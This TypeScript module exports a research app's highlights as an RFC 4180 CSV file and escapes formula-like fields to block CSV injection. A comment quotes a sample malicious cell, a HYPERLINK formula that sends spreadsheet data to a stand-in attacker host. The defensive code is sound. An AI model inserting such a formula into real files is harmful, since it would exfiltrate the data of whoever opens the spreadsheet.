import type { Database } from 'better-sqlite3-multiple-ciphers'
import { pageLabel } from '../../shared/source-pages'
import { readExportRows, type ExportFilter, type ExportRow } from './export-rows'

/**
 * Highlights as a spreadsheet: one row per passage with its citation. RFC 4180 (comma-separated, CRLF line
 * ends, fields quoted when they hold a comma, a quote mark or a line break, quote marks doubled), UTF-8 with
 * a byte-order mark, without which Excel reads the file in the machine's legacy code page and shows
 * Cyrillic as mojibake. Written here rather than with a library: the whole of the format is the few lines
 * of {@link csvField}.
 */

export const PASSAGE_COLUMNS = [
  'quote',
  'note',
  'tags',
  'entities',
  'colour',
  'status',
  'article title',
  'source URL',
  'published',
  'version SHA-256',
  'highlight id',
  'article id',
  'created',
  // Last, so the columns before it keep their places for spreadsheets made from earlier exports.
  'pages',
] as const

/**
 * One field, quoted as RFC 4180 requires. A field that a spreadsheet would take for a formula (starting
 * with =, +, -, @, or a tab or carriage return that some of them skip first) gets a leading apostrophe:
 * quotes and notes come from web pages and other people's files, and a cell like
 * `=HYPERLINK("http://evil.example/?"&A1)` would run when the researcher opens the export (CSV injection,
 * OWASP). The apostrophe is what Excel and LibreOffice themselves use to mean "text, not a formula".
 */
export function csvField(value: string): string {
  const safe = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe
}

function passageCells(row: ExportRow): string[] {
  return [
    row.exact,
    row.note,
    row.tags.join('; '),
    row.entities.map((e) => `${e.name} (${e.type})`).join('; '),
    row.color,
    row.anchorStatus,
    row.article.title,
    row.article.sourceUrl ?? '',
    row.article.publishedAt ?? '',
    row.version.sha256,
    row.id,
    row.article.id,
    row.createdAt,
    row.pages ? pageLabel(row.pages) : '',
  ]
}

/** The selected highlights (by default every live one that is not dismissed) as CSV text, BOM first. */
export function passagesCsv(db: Database, filter: ExportFilter = {}): string {
  return passagesCsvOf(readExportRows(db, filter))
}

/** The CSV of rows already read (an export that also counts them reads them once). */
export function passagesCsvOf(rows: readonly ExportRow[]): string {
  const lines = [PASSAGE_COLUMNS, ...rows.map(passageCells)].map((cells) => cells.map(csvField).join(','))
  return `\uFEFF${lines.join('\r\n')}\r\n`
}
